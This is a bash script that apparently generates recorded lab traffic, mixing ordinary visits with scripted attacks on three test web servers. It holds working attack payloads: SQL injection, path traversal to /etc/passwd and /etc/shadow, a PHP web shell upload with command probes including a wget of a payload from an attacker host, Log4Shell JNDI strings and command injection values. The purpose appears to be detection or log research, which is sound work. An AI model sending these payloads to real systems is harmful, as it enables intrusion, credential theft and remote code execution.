# SPDX-License-Identifier: Apache-2.0
# play-web.sh - visitors and attackers of three web servers. Sourced by ./record. The random seed is fixed.
agents=('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36'
	'Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Mobile Safari/537.36'
	'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0'
	'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1')
visits() { # HOST VISITS: each one is a page, its style and sometimes a search
	local to=$1 n=$2 i from agent urls
	for i in $(seq "$n"); do
		from=198.51.100.$((20 + RANDOM % 40)) agent=${agents[$((RANDOM % 4))]}
		urls=("http://$to/" "http://$to/css/site.css" "http://$to/tin-tuc/$((1 + RANDOM % 44)).html")
		[ $((RANDOM % 3)) -eq 0 ] && urls+=("http://$to/tra-cuu/?ma=$((RANDOM))&ten=Nguy%E1%BB%85n+Th%E1%BB%8B")
		[ $((RANDOM % 5)) -eq 0 ] && urls+=("http://$to/lich-kham.html?ngay=2026-11-2$((RANDOM % 9))" "http://$to/favicon.ico")
		in_ns people curl -s --interface "$from" -A "$agent" -e "http://$to/" "${urls[@]}" > /dev/null || true
	done
}
hit() { # FROM AGENT URL [CURL OPTION...]
	local from=$1 agent=$2 url=$3; shift 3
	in_ns outside curl -s -m 5 --path-as-is --interface "$from" -A "$agent" "$@" "$url" > /dev/null || true
}
attacks() { # HOST
	local to=$1 a=${agents[0]} n
	for n in 1 2 3 4 5; do
		hit 203.0.113.77 "$a" "http://$to/tra-cuu/?ma=$n%27%20UNION%20ALL%20SELECT%20NULL,user,password%20FROM%20users--%20-"
		hit 203.0.113.77 "$a" "http://$to/tra-cuu/?ma=$n+union+select+1,2,version()--"
	done
	for n in 1 2 3; do hit 203.0.113.77 "$a" "http://$to/tra-cuu/?ma=1%27%20AND%20SLEEP($n)--%20"; done
	hit 203.0.113.77 "$a" "http://$to/tra-cuu/?ma=1%27%20OR%20%271%27=%271"
	for n in passwd shadow hosts; do
		hit 203.0.113.99 "$a" "http://$to/../../../../etc/$n"
		hit 203.0.113.99 "$a" "http://$to/tra-cuu/?tep=../../../../etc/$n"
		hit 203.0.113.99 "$a" "http://$to/tra-cuu/?tep=..%2f..%2f..%2fetc%2f$n"
	done
	hit 203.0.113.120 'curl/7.88.1' "http://$to/uploads/anh.php" -F 'tep=@/etc/hostname;filename=anh.php'
	for n in id whoami 'cat%20/etc/passwd' 'uname%20-a' 'wget%20http://203.0.113.120/a.sh'; do
		hit 203.0.113.120 "$a" "http://$to/uploads/anh.php?cmd=$n"
	done
	for n in 1 2; do
		hit 203.0.113.150 '${jndi:ldap://203.0.113.150:1389/a}' "http://$to/"
		hit 203.0.113.150 "$a" "http://$to/api/ho-so" -e '${${lower:j}ndi:ldap://203.0.113.150/b}'
		hit 203.0.113.150 "$a" "http://$to/tra-cuu/?ma=%24%7Bjndi:ldap://203.0.113.150/c%7D"
	done
	for n in 'a;id' 'a%7Cid' 'a%3Bcat%20/etc/passwd' '$(id)' '%60whoami%60'; do hit 203.0.113.200 "$a" "http://$to/api/ping?may=$n"; done
	for n in $(seq 12); do hit 203.0.113.200 'sqlmap/1.7.2#stable (https://sqlmap.org)' "http://$to/tra-cuu/?ma=$n"; done
	for n in admin phpmyadmin .git/config .env backup.zip wp-login.php server-status; do
		hit 203.0.113.200 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' "http://$to/$n"
	done
	printf 'GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: "quoted\x01\\ \xff\r\n\r\n\x16\x03\x01\x02' | in_ns outside nc -s 203.0.113.200 -w 1 "$to" 80 > /dev/null || true
	printf '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' | in_ns outside nc -s 203.0.113.200 -w 1 "$to" 80 > /dev/null || true
}
play_web() {
	RANDOM=20261123
	visits 192.0.2.10 150; attacks 192.0.2.10; visits 192.0.2.10 150
	visits 192.0.2.74 90; attacks 192.0.2.74; visits 192.0.2.74 60
	visits 192.0.2.138 60; attacks 192.0.2.138; visits 192.0.2.138 60
}
